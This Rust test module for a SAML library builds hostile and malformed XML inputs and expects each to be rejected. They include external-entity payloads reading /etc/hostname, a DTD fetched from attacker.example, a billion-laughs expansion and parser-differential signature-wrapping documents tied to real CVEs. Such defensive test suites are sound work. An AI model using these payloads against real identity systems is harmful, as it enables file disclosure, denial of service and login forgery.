//! D. What is not XML as SAML needs it. Most of these change nothing that was signed: they are refused before that.

use super::{Case, accept_value, raw, reject, reject_value};
use crate::forge::*;
use base64::{
    Engine as _,
    engine::general_purpose::{STANDARD, URL_SAFE},
};
use lychgate_idp::{
    logout::{Envelope, LogoutResponse},
    markup::Prefixes,
};

pub(super) fn cases() -> Vec<Case> {
    [doctypes(), ill_formed(), encodings(), differentials(), values()].concat()
}

fn doctypes() -> Vec<Case> {
    let good = xml(&genuine());
    let laughs: String = (1..10)
        .map(|level| format!("<!ENTITY l{level} \"{}\">", format!("&l{};", level - 1).repeat(10)))
        .collect();
    let laughs =
        format!("<!DOCTYPE r [<!ENTITY l0 \"ha\">{laughs}]>{}", replace(&good, "Mallory", "&l9;"));
    let file = format!(
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>{}",
        replace(&good, "Mallory", "&x;")
    );
    let parameter =
        format!("<!DOCTYPE r [<!ENTITY % x SYSTEM \"https://attacker.example/x.dtd\"> %x;]>{good}");
    let source = "CVE-2016-10149 (pysaml2); SAML Raider";
    vec![
        reject("doctype", "plain", format!("<!DOCTYPE r>{good}"), source),
        reject(
            "doctype",
            "behind-a-declaration",
            format!("<?xml version=\"1.0\"?>\n<!-- -->\n<!DOCTYPE r []>{good}"),
            source,
        ),
        reject("doctype", "lower-case", format!("<!doctype r>{good}"), source),
        reject(
            "doctype",
            "public",
            format!("<!DOCTYPE r PUBLIC \"-//x\" \"https://attacker.example/x.dtd\">{good}"),
            source,
        ),
        reject("doctype", "external-entity", file, source),
        reject("doctype", "parameter-entity", parameter, source),
        reject(
            "doctype",
            "default-attribute",
            format!("<!DOCTYPE r [<!ATTLIST x ID CDATA \"_a-1\">]>{good}"),
            source,
        ),
        reject("doctype", "billion-laughs", laughs, "classic"),
    ]
}

fn ill_formed() -> Vec<Case> {
    let good = xml(&genuine());
    let put = |mark: &str, text: &str| behind(&good, mark, text);
    let root = "<samlp:Response";
    let all = [
        ("duplicate-attribute", put(root, " ID=\"_r-1\"")),
        (
            "duplicate-attribute-by-namespace",
            put(root, " xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:i=\"1\" b:i=\"2\""),
        ),
        ("xmlns-xml-bound-elsewhere", put(root, " xmlns:xml=\"urn:x\"")),
        ("xmlns-bound", put(root, " xmlns:xmlns=\"urn:x\"")),
        ("prefix-undeclared-again", put("<saml:Assertion", " xmlns:ds=\"\"")),
        ("prefix-not-declared", put("</samlp:Status>", "<z:z/>")),
        ("two-roots", format!("{good}{good}")),
        ("trailing-text", format!("{good} x")),
        ("trailing-null", format!("{good}\0")),
        ("leading-text", format!("x{good}")),
        ("leading-white-space-before-declaration", format!(" <?xml version=\"1.0\"?>{good}")),
        ("null-in-text", replace(&good, "Mallory", "Mal\0lory")),
        ("control-character", replace(&good, "Mallory", "Mal\u{1}lory")),
        ("null-reference", replace(&good, "Mallory", "Mal&#0;lory")),
        ("surrogate-reference", replace(&good, "Mallory", "Mal&#xD800;lory")),
        ("reference-too-large", replace(&good, "Mallory", "Mal&#x110000;lory")),
        ("entity-not-declared", replace(&good, "Mallory", "Mal&eacute;lory")),
        ("bare-ampersand", replace(&good, "Mallory", "Mal & lory")),
        ("less-than-in-attribute", replace(&good, "ID=\"_r-1\"", "ID=\"_r<1\"")),
        ("attribute-without-quotes", replace(&good, "ID=\"_r-1\"", "ID=_r-1")),
        ("wrong-end-tag", replace(&good, "</saml:Subject>", "</saml:subject>")),
        ("no-end", good[..good.len() - 8].to_owned()),
        ("cdata-end-in-text", replace(&good, "Mallory", "Mal]]>lory")),
        ("comment-with-hyphens", put("</samlp:Status>", "<!-- a -- b -->")),
        ("comment-not-closed", format!("{good}<!-- ")),
        ("xml-1-1", format!("<?xml version=\"1.1\"?>{good}")),
        ("nothing", String::new()),
        ("white-space", " \n ".to_owned()),
        ("json", "{\"sub\": \"owner@acme.example\"}".to_owned()),
        ("html", "<!doctype html><html><body>Sign in</body></html>".to_owned()),
    ];
    all.into_iter()
        .map(|(name, xml)| reject("ill-formed", name, xml, "XML 1.0; Namespaces in XML 1.0"))
        .collect()
}

fn encodings() -> Vec<Case> {
    let good = xml(&genuine());
    let wide = |mark: u16, bytes: fn(u16) -> [u8; 2]| -> Vec<u8> {
        std::iter::once(mark).chain(good.encode_utf16()).flat_map(bytes).collect()
    };
    let declared =
        |name: &str| format!("<?xml version=\"1.0\" encoding=\"{name}\"?>{good}").into_bytes();
    let broken = |bytes: &[u8]| {
        let at = good.find("Mallory").unwrap();
        [&good.as_bytes()[..at], bytes, &good.as_bytes()[at..]].concat()
    };
    let utf7 = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-7\"?>{}",
        good.replace('<', "+ADw-").replace('>', "+AD4-")
    );
    let all = [
        ("utf-16-little-endian", wide(0xFEFF, u16::to_le_bytes)),
        ("utf-16-big-endian", wide(0xFEFF, u16::to_be_bytes)),
        ("utf-16-declared", declared("UTF-16")),
        ("utf-7", utf7.into_bytes()),
        ("latin-1-declared", declared("ISO-8859-1")),
        ("latin-1", broken(b"\xE9")),
        ("overlong", broken(b"\xC0\xAF")),
        ("surrogate-pair", broken(b"\xED\xA0\x80\xED\xB0\x80")),
        ("half-a-character", broken(b"\xE2\x82")),
    ];
    all.into_iter()
        .map(|(name, bytes)| raw("encoding", name, bytes, "XML 1.0 §4.3.3; only UTF-8 is taken"))
        .collect()
}

/// Two parsers, two documents. There is one parser here; these are refused by it or change nothing.
fn differentials() -> Vec<Case> {
    let source =
        "CVE-2025-25291, CVE-2025-25292 (ruby-saml), CVE-2025-66567, CVE-2025-23369 (GHES)";
    let (good, bad) = (genuine_assertion(), evil_assertion());
    let response = around(&good);
    let sandwich = format!("<!DOCTYPE r [<!NOTATION x PUBLIC \"]><!--\">]>{}", around(&bad));
    let entity = replace(&response, "ID=\"_a-1\"", "ID=\"&id;\"");
    let cdata =
        with_extensions(&around(&bad), &format!("<![CDATA[--><!--]]>{good}<!-- <![CDATA[ -->"));
    let confused = replace(
        &around(&signed_with(&bad, part(&good, SIGNATURE))),
        "<ds:Signature xmlns:ds=\"",
        "<ds:Signature xmlns:ds=\"urn:x\" xmlns:DS=\"",
    );
    let rebound = behind(&around(&good), "<saml:Subject", " xmlns:saml=\"urn:x\"");
    let case = replace(&around(&bad), "saml:Assertion ", "saml:assertion ")
        .replace("</saml:Assertion>", "</saml:assertion>");
    vec![
        reject("parser-differential", "doctype-sandwich", sandwich, source),
        reject("parser-differential", "entity-in-id", entity, source),
        reject("parser-differential", "cdata-and-comment", cdata, source),
        reject("parser-differential", "namespace-confusion", confused, source),
        reject("parser-differential", "prefix-bound-again", rebound, source),
        reject("parser-differential", "names-in-another-case", case, source),
        reject(
            "parser-differential",
            "no-namespace",
            around(&bad)
                .replace("saml:", "")
                .replace("<Issuer xmlns:saml", "<Issuer xmlns:q")
                .replace("<Assertion xmlns:saml", "<Assertion xmlns:q"),
            source,
        ),
    ]
}

/// Values of the form field, before there is any XML.
fn values() -> Vec<Case> {
    // Characters whose low six bits are those of `/` and `+`, at every position.
    let response = xml(&genuine().attribute("Motto", "???~~~"));
    let good = STANDARD.encode(&response);
    let wrapped = |end: &str| -> String {
        good.as_bytes()
            .chunks(76)
            .map(|line| String::from_utf8_lossy(line).into_owned() + end)
            .collect()
    };
    let logout = LogoutResponse {
        envelope: Envelope {
            prefixes: Prefixes::COMMON,
            id: "_l-1".to_owned(),
            issue_instant: instant(0),
            destination: Some(ACS.to_owned()),
            issuer: IDP.to_owned(),
        },
        in_response_to: Some(REQUEST.to_owned()),
        status: lychgate_idp::response::SUCCESS.to_owned(),
    };
    let request = "<samlp:AuthnRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_q-1\" Version=\"2.0\" IssueInstant=\"2026-11-22T09:30:00Z\"></samlp:AuthnRequest>";
    let bare = STANDARD.encode(genuine_assertion());
    let source = "SAML Bindings 3.5.4";
    let value = |name: &str, text: String| reject_value("post-value", name, text, source);
    let with_signs = good.contains('+') && good.contains('/');
    assert!(with_signs, "the two alphabets differ on this message");
    vec![
        accept_value("post-value", "plain", good.clone(), source),
        accept_value("post-value", "wrapped-with-crlf", wrapped("\r\n"), source),
        accept_value("post-value", "wrapped-with-lf", wrapped("\n"), source),
        value("empty", String::new()),
        value("not-base64", "<samlp:Response/>".to_owned()),
        value("base64url", URL_SAFE.encode(&response)),
        value("percent-encoded", good.replace('+', "%2B")),
        value("spaces-for-plus", good.replace('+', " ")),
        value("array-like", format!("[\"{good}\"]")),
        value("twice", format!("{good},{good}")),
        value("padding-within", format!("AA=={good}")),
        value("not-ascii", format!("{good}é")),
        value("twice-encoded", STANDARD.encode(&good)),
        value("authn-request", STANDARD.encode(request)),
        value("logout-response", STANDARD.encode(logout.xml(None).unwrap())),
        value("bare-assertion", bare),
        value("deflated", lychgate_idp::redirect::deflated(&response).unwrap()),
    ]
}
